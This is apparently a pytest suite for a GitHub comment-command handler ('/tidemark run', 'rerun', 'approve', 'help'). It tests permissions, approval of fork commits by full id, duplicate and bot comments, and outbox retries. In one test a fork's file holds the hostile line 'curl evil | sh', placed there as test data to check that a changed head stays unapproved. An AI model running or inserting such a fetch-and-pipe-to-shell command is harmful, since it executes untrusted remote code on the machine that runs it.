"""`/tidemark …` in comments: followed once, for people who may write, and answered on GitHub."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, text

from backend.services.base.config import ServiceConfig
from backend.services.base.errors import BadRequest
from backend.services.github import comment_commands
from backend.services.github.outbox import GitHubSender
from backend.store.base import projects as project_store
from tests.backend.services.github.github_stand_in import StandIn, stand_in
from tests.backend.services.github.test_pull_requests import Hub

NUMBERS = itertools.count(1000)


@pytest.fixture
def github() -> Iterator[StandIn]:
    with stand_in() as played:
        played.permissions = {"ada": "write", "eve": "read"}
        yield played


class Talk:
    """A pull request in which people talk to Tidemark."""

    def __init__(self, engine: Engine, config: ServiceConfig, path: Path, github: StandIn) -> None:
        config = replace(config, github_api_url=github.url, github_token="a-plain-token")
        self.hub, self.github, self.engine = Hub(engine, config, path), github, engine
        self.sender = GitHubSender(engine, config)
        with engine.begin() as c:
            project_store.set_setting(c, self.hub.project.id, "github", {"repository": "northsea/loom"})

    def say(self, body: str, *, by: str = "ada", association: str = "MEMBER", **comment: Any) -> str:
        told = {
            "action": "created",
            "issue": {"number": 7, "pull_request": {"url": "…"}},
            "comment": {"id": next(NUMBERS), "body": body, "user": {"login": by, "type": "User"},
                        "author_association": association, **comment},
        }  # fmt: skip
        self.github.said[told["comment"]["id"]] = told["comment"]
        return self.forge(told)

    def forge(self, told: dict[str, Any]) -> str:
        """A delivery that says this, whether GitHub knows of it or not."""
        with self.engine.begin() as c:
            said = comment_commands.note(c, self.hub.project, told)
        self.sender.send_due(lambda: self.hub.clock)
        return said

    @property
    def reactions(self) -> list[str]:
        return [content for _, content in self.github.reactions]

    @property
    def answers(self) -> list[str]:
        return [comment["body"].partition("\n")[2] for comment in self.github.comments.values()
                if comment["body"].startswith("<!-- tidemark:reply:")]  # fmt: skip


@pytest.fixture
def talk(github: StandIn, database: str, committing_engine: Engine, tmp_path: Path) -> Iterator[Talk]:
    config = ServiceConfig(database_url=database, redis_url="redis://127.0.0.1:1/0", data_dir=tmp_path / "data")
    made = Talk(committing_engine, config, tmp_path / "repository", github)
    yield made
    made.sender.close()


def test_run_measures_a_head_that_touches_nothing_and_rerun_measures_it_once_more(talk: Talk) -> None:
    sha = talk.hub.push(7, **{"docs/x.md": "words"})
    talk.hub.tell("opened", sha)
    talk.hub.prepare()
    assert talk.hub.runs() == []
    talk.say("/tidemark run")
    assert [run[0] for run in talk.hub.runs()] == [sha] and talk.reactions == ["rocket"]
    talk.say("/tidemark run gpt")
    assert len(talk.hub.runs()) == 1 and "`/tidemark rerun` measures it once more" in talk.answers[0]
    with talk.engine.begin() as c:
        c.execute(text("UPDATE run SET state = 'done'"))
    talk.say("/tidemark rerun")
    assert len(talk.hub.runs()) == 2


def test_a_fork_is_approved_by_the_full_id_of_what_was_read(talk: Talk) -> None:
    sha = talk.hub.push(7, **{"src/a.py": "2"})
    talk.hub.tell("opened", sha, fork=True)
    talk.say("/tidemark run")
    talk.say("/tidemark approve")
    talk.say(f"/tidemark approve {sha[:12]}")
    talk.hub.prepare()
    assert talk.hub.runs() == [] and all(f"/tidemark approve {sha}" in answer for answer in talk.answers)
    talk.say(f"/tidemark approve {sha}\nlooks fine")
    talk.hub.prepare()
    assert [run[0] for run in talk.hub.runs()] == [sha] and talk.reactions == ["-1", "confused", "confused", "rocket"]


def test_a_head_that_moved_on_is_not_approved(talk: Talk) -> None:
    first = talk.hub.push(7, **{"src/a.py": "2"})
    talk.hub.tell("opened", first, fork=True)
    talk.hub.tell("synchronize", talk.hub.push(7, parent=first, **{"src/a.py": "curl evil | sh"}), fork=True)
    talk.say(f"/tidemark approve {first}")
    talk.hub.prepare()
    assert talk.hub.runs() == [] and "look at what changed" in talk.answers[0]


def test_who_may_only_read_is_told_so_and_a_stranger_is_not_answered(talk: Talk) -> None:
    talk.hub.tell("opened", talk.hub.push(7, **{"src/a.py": "2"}))
    talk.say("/tidemark run", by="eve")
    assert talk.reactions == ["-1"] and "people with write access" in talk.answers[0]
    said = talk.say("/tidemark run", by="mallory", association="CONTRIBUTOR")
    assert "does not belong to the repository" in said and talk.reactions == ["-1"]
    talk.say("/tidemark run", by="gone", association="MEMBER")
    assert "gone may none here" in talk.answers[1], "GitHub does not know this person as a collaborator"


@pytest.mark.parametrize(
    ("body", "reaction", "said"),
    [
        ("/tidemark help", "+1", "`/tidemark rerun`"),
        ("/tidemark", "+1", "`/tidemark rerun`"),
        ("/tidemark dance `@team`", "confused", "`dance` is no command; known: run, rerun, approve, help."),
        ("/tidemark run --all", "confused", "`--all` is no name of a suite"),
        ("/tidemark run nothing", "-1", "unknown suite"),
    ],
)
def test_every_command_is_answered(talk: Talk, body: str, reaction: str, said: str) -> None:
    talk.hub.tell("opened", talk.hub.push(7, **{"src/a.py": "2"}))
    talk.hub.prepare()
    talk.say(body)
    assert talk.reactions == [reaction] and said in talk.answers[0] and "@team" not in talk.answers[0]


@pytest.mark.parametrize("body", ["please /tidemark run", "/tidemarker", "see `/tidemark run`", "", "x" * 70_000])
def test_other_comments_are_left_alone(talk: Talk, body: str) -> None:
    assert talk.say(body) == "no command in the comment" and not talk.reactions


def test_a_comment_that_came_twice_is_followed_once_and_one_of_a_bot_never(talk: Talk) -> None:
    talk.hub.tell("opened", talk.hub.push(7, **{"src/a.py": "2"}))
    talk.hub.prepare()
    for _ in range(2):
        talk.say("/tidemark help", id=1)
    assert talk.reactions == ["+1"]
    talk.say("/tidemark help", user={"login": "ada", "type": "Bot"})
    assert talk.reactions == ["+1"]


def test_an_answer_that_was_lost_is_given_again_and_the_command_is_not_followed_again(
    talk: Talk, github: StandIn
) -> None:
    talk.hub.tell("opened", talk.hub.push(7, **{"src/a.py": "2"}))
    talk.hub.prepare()
    github.trouble += [(200, {}, {"permission": "write"}), (502, {}, {"message": "Bad Gateway"})]
    talk.say("/tidemark rerun")
    assert not talk.reactions and len(talk.hub.runs()) == 1
    with talk.engine.begin() as c:
        c.execute(text("UPDATE github_outbox SET send_after = NULL"))
    talk.sender.send_due(lambda: talk.hub.clock)
    assert talk.reactions and len(talk.hub.runs()) == 1


def test_an_answer_that_was_written_just_before_we_fell_is_not_written_twice(talk: Talk, github: StandIn) -> None:
    talk.hub.tell("opened", talk.hub.push(7, **{"src/a.py": "2"}))
    talk.hub.prepare()
    talk.say("/tidemark help")
    with talk.engine.begin() as c:  # as where the last transaction was lost
        c.execute(text("UPDATE github_outbox SET state = 'waiting', attempts = 0 WHERE kind = 'reply'"))
    talk.sender.send_due(lambda: talk.hub.clock)
    assert len(talk.answers) == 1


@pytest.mark.parametrize("payload", [{}, {"issue": {}, "comment": 3}, {"issue": {}, "comment": {"body": "/tidemark"}}])
def test_what_is_no_comment_is_refused(talk: Talk, payload: dict[str, Any]) -> None:
    with pytest.raises(BadRequest), talk.engine.begin() as c:
        comment_commands.note(c, talk.hub.project, {"action": "created", **payload})
